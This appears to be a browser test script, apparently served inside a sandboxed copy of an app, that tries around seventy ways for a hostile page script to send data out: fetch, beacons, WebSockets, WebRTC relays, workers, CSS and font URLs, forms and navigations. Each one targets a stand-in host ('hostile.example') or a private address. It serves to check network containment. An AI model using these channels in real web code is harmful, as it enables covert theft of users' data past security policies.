/**
 * What a hostile script in a page would try in order to get a byte out. Each way asks for a host of its own name and
 * for an address, so that a packet says which way was open. Served as part of a copy of the app; never shipped.
 */
const ADDRESS = '10.77.0.1';
const tried = [];

/** Both places that a way may lead to: one that needs a look-up, one that needs none. */
const places = (way) => [`${way}.hostile.example`, ADDRESS];

async function attempt(way, go) {
  tried.push(way);
  for (const place of places(way)) {
    try {
      // A way that never ends is left to itself: its packet has had its time when all others were tried, too.
      await Promise.race([go(place), new Promise((done) => setTimeout(done, 300))]);
    } catch {
      // Refused, as it should be.
    }
  }
}

function add(tag, attributes, parent = document.body) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
}

const style = (text) => (add('style', {}, document.head).textContent = text);

const WAYS = {
  ...Object.fromEntries(
    [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'preload',
      'modulepreload',
      'stylesheet',
      'icon',
      'manifest',
      'prerender',
    ].map((rel) => [rel, (host) => add('link', { rel, as: 'script', href: `https://${host}/${rel}` }, document.head)]),
  ),
  ...Object.fromEntries(
    ['img', 'iframe', 'script', 'video', 'audio', 'embed', 'track', 'source', 'input', 'frame'].map((tag) => [
      tag,
      (host) => add(tag, { src: `https://${host}/${tag}`, type: tag === 'input' ? 'image' : '', autoplay: '' }),
    ]),
  ),
  object: (host) => add('object', { data: `https://${host}/object` }),
  fencedframe: (host) => add('fencedframe', { src: `https://${host}/` }),
  svg: (host) =>
    (add('div', {}).innerHTML = `<svg><image href="https://${host}/svg"/><use href="https://${host}/u#a"/></svg>`),
  background: (host) => style(`body { background: url(https://${host}/css) }`),
  import: (host) => style(`@import url(https://${host}/css);`),
  font: (host) => style(`@font-face { font-family: far; src: url(https://${host}/f.woff2) } body { font-family: far }`),
  fontFace: (host) => new FontFace('further', `url(https://${host}/g.woff2)`).load(),
  cursor: (host) => style(`* { cursor: url(https://${host}/c.cur), auto }`),
  fetch: (host) => fetch(`https://${host}/fetch`, { mode: 'no-cors', keepalive: true }),
  plainFetch: (host) => fetch(`http://${host}/fetch`),
  xhr: (host) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open('POST', `http://${host}/xhr`);
      request.send('secret');
    }),
  beacon: (host) => navigator.sendBeacon(`https://${host}/beacon`, 'secret'),
  webSocket: (host) => new WebSocket(`ws://${host}/`),
  eventSource: (host) => new EventSource(`http://${host}/`),
  webTransport: (host) => new WebTransport(`https://${host}:4433/`).ready,
  webRtc: (host) => peer({ urls: `stun:${host}:3478` }),
  webRtcRelay: (host) => peer({ urls: `turn:${host}:3478?transport=tcp`, username: 'a', credential: 'b' }),
  webRtcRelayTls: (host) => peer({ urls: `turns:${host}:443?transport=tcp`, username: 'a', credential: 'b' }),
  webRtcLocal: () => peer(),
  webRtcToPeer: (host) => toPeer(host),
  worker: (host) => new Worker(URL.createObjectURL(new Blob([`importScripts('https://${host}/w.js')`]))),
  workerFetch: (host) => new Worker(`data:text/javascript,fetch('https://${host}/w')`),
  sharedWorker: (host) => new SharedWorker(`https://${host}/s.js`),
  serviceWorker: (host) => navigator.serviceWorker.register(`https://${host}/sw.js`),
  module: (host) => import(`https://${host}/module.js`),
  speculation: (host) =>
    (add('script', { type: 'speculationrules' }).textContent = JSON.stringify({
      prefetch: [{ urls: [`https://${host}/a`], eagerness: 'immediate' }],
      prerender: [{ urls: [`https://${host}/b`], eagerness: 'immediate' }],
    })),
  cache: async (host) => (await caches.open('far')).add(`https://${host}/cache`),
  geolocation: () => new Promise((done) => navigator.geolocation.getCurrentPosition(done, done)),
  recognition: () => new webkitSpeechRecognition().start(),
  speech: () => speechSynthesis.speak(new SpeechSynthesisUtterance('secret')),
  notification: (host) => new Notification('far', { icon: `https://${host}/n.png`, image: `https://${host}/m.png` }),
  credentials: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 100 } }),
  topics: () => document.browsingTopics(),
  auction: (host) => navigator.joinAdInterestGroup({ owner: `https://${host}`, name: 'a' }, 60),
  attribution: (host) =>
    fetch(`https://${host}/a`, { attributionReporting: { eventSourceEligible: true, triggerEligible: true } }),
  report: (host) =>
    add(
      'meta',
      { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri https://${host}/` },
      document.head,
    ),
  ping: (host) => add('a', { href: '#here', ping: `https://${host}/ping` }).click(),
  download: (host) => add('a', { href: `https://${host}/file`, download: 'file' }).click(),
  link: (host) => add('a', { href: `https://${host}/link`, target: '_blank' }).click(),
  noopener: (host) => add('a', { href: `https://${host}/link`, target: '_blank', rel: 'noopener' }).click(),
  open: (host) => open(`https://${host}/open`),
  popup: (host) => open(`https://${host}/open`, 'far', 'popup,width=100,height=100'),
  form: (host) => add('form', { action: `https://${host}/form`, method: 'post', target: '_blank' }).submit(),
  srcdoc: (host) =>
    add('iframe', {
      srcdoc: `<img src="https://${host}/srcdoc"><meta http-equiv="refresh" content="0;url=https://${host}/">`,
    }),
  blobFrame: (host) =>
    add('iframe', {
      src: URL.createObjectURL(new Blob([`<link rel=dns-prefetch href=//${host}>`], { type: 'text/html' })),
    }),
  dataFrame: (host) => add('iframe', { src: `data:text/html,<img src=https://${host}/d>` }),
  blankFrame: (host) => {
    const frame = add('iframe', { src: 'about:blank' });
    frame.contentDocument?.head.append(
      Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${host}` }),
    );
    if (frame.contentWindow) frame.contentWindow.location = `https://${host}/frame`;
  },
  mail: (host) => (location.href = `mailto:secret@${host}`),
  refresh: (host) => add('meta', { 'http-equiv': 'refresh', content: `0;url=https://${host}/refresh` }, document.head),
  ownForm: (host) => add('form', { action: `https://${host}/form`, method: 'get' }).submit(),
  assign: (host) => location.assign(`https://${host}/assign`),
  plain: (host) => location.assign(`http://${host}/assign`),
  file: (host) => location.assign(`file://${host}/share`),
  view: (host) => location.assign(`view-source:https://${host}/`),
  ftp: (host) => location.assign(`ftp://${host}/`),
};

async function peer(server) {
  const connection = new RTCPeerConnection(server ? { iceServers: [server] } : {});
  connection.createDataChannel('far');
  await connection.setLocalDescription(await connection.createOffer());
  await new Promise((done) => (connection.onicecandidate = ({ candidate }) => candidate === null && done()));
}

/** A peer that is said to wait at the address, so that the browser checks the way to it, over UDP and TCP. */
async function toPeer(host) {
  const [near, far] = [new RTCPeerConnection(), new RTCPeerConnection()];
  near.createDataChannel('far');
  await near.setLocalDescription(await near.createOffer());
  await far.setRemoteDescription(near.localDescription);
  await far.setLocalDescription(await far.createAnswer());
  await near.setRemoteDescription(far.localDescription);
  const at = (line) => near.addIceCandidate({ candidate: line, sdpMid: '0' });
  await at(`candidate:1 1 udp 2122260223 ${host} 5000 typ host`);
  await at(`candidate:2 1 tcp 1518280447 ${host} 5001 typ host tcptype passive`);
}

async function tryAll() {
  for (const [way, go] of Object.entries(WAYS)) await attempt(way, go);
  document.title = `Hostile: ${tried.length} ways tried`;
}

addEventListener('load', () => void tryAll());
